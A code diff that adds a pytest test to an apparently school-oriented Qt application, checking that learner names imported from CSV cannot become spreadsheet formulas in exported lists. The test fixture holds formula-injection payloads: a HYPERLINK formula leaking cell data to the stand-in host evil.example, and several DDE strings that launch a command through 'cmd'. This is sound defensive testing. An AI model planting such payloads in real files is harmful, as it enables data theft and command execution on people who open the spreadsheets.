@@ -114,3 +114,38 @@ def test_small_file_imports_without_a_progress_dialog(open_window, answers, qtbo
     qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
     assert window.findChildren(QProgressDialog) == []
     qtbot.waitUntil(lambda: window.left.isEnabled() and window.model.rowCount() == 8, timeout=20_000)
+
+
+def test_exported_lists_never_carry_formulas_from_imported_names(open_window, answers, qtbot, tmp_path,
+                                                                   monkeypatch):
+    import csv
+
+    from plprofile.ui import class_overview
+
+    hostile = tmp_path / "hostile.csv"
+    hostile.write_text(
+        "given_name,family_name,preferred_name,grade,group,external_id\n"
+        '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Okafor,,5,5B,S1\n'
+        "Ana,+cmd|' /C calc'!A0,,5,5B,S2\n"
+        "Ben,Lee,@SUM(1+1)*cmd|' /C calc'!A0,5,5B,S3\n"
+        "Cy,-2+3+cmd|' /C calc'!A0,,5,5B,S4\n", encoding="utf-8")
+    window = open_window()
+    _import(window, answers, qtbot, hostile)
+    assert answers.errors == [] and _learner_count(window) == 4
+    # a learner's own preferred name, changed later, goes through the same door
+    first = window.model.learner(0).id
+    window.ctx.profiles.update_learner(window.ctx.teacher, first, preferred_name="=1+2")
+    overview = window.open_class_overview()
+    assert len(overview.due_rows()) == 4  # nobody assessed yet: all of them are on the list
+    target = tmp_path / "due.csv"
+    monkeypatch.setattr(class_overview, "choose_export_path", lambda *_a, **_k: str(target))
+    overview.export_due()
+    with target.open(encoding="utf-8-sig", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    names = [c for c in cells if "cmd|" in c or "HYPERLINK" in c or "1+2" in c]
+    assert len(names) == 4, cells
+    # the list shows "preferred family": three of them begin with a formula and arrive quoted, as text
+    assert sorted(c for c in names if c.startswith("'")) == [
+        "'=1+2 +cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") Okafor",
+        "'@SUM(1+1)*cmd|' /C calc'!A0 Lee"], names
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
